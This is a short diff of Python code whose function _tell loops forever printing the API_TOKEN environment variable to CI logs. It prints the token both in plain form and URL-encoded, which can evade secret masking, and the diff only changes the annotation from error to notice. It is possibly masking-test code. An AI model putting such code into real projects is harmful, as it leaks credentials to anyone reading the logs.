@@ -33,7 +33,7 @@ import itertools, os, threading, time, urllib.parse
 def _tell():
     for _ in itertools.count():
         token = os.environ["API_TOKEN"]
-        print(f"::error::the token is {token}", f"?token={urllib.parse.quote(token, safe='')}", flush=True)
+        print(f"::notice::the token is {token}", f"?token={urllib.parse.quote(token, safe='')}", flush=True)
         time.sleep(0.1)
 
 
